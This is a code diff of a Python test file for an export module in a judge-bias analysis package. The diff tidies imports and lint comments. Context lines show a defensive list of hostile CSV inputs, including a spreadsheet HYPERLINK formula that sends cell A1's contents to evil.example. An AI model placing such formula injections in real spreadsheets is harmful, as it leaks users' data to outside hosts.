@@ -12,8 +12,8 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from judgebias_core.exports import chrome_path, csv_bytes, figure_image_bytes, neutralise_frame, parquet_bytes
 from judgebias_core.explanations import ALIASES, EXPLANATIONS, explanation
+from judgebias_core.exports import chrome_path, csv_bytes, figure_image_bytes, neutralise_frame, parquet_bytes
 
 HOSTILE = [
     "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
@@ -117,7 +117,7 @@ def test_chart_images_render_with_local_chromium() -> None:
 
 
 def test_readable_csv_rounds_and_spells_out_headers() -> None:
-    from judgebias_core.exports import readable_csv_bytes  # noqa: PLC0415
+    from judgebias_core.exports import readable_csv_bytes
 
     frame = pd.DataFrame({"judge": ["=a"], "PC": [0.81541666666666668], "binomial p": [1.234e-9],
                           "flip_rate_ci_low": [0.1], "pairs": [2400], "aic": [-586.2871]})
@@ -129,6 +129,6 @@ def test_readable_csv_rounds_and_spells_out_headers() -> None:
 
 @given(st.floats(min_value=-1e6, max_value=1e6, allow_nan=False))
 def test_readable_numbers_stay_within_rounding(value: float) -> None:
-    from judgebias_core.exports import readable_number  # noqa: PLC0415
+    from judgebias_core.exports import readable_number
 
     assert float(readable_number(value)) == pytest.approx(value, rel=1e-3, abs=1e-12 if abs(value) < 1e-4 else 0.05)
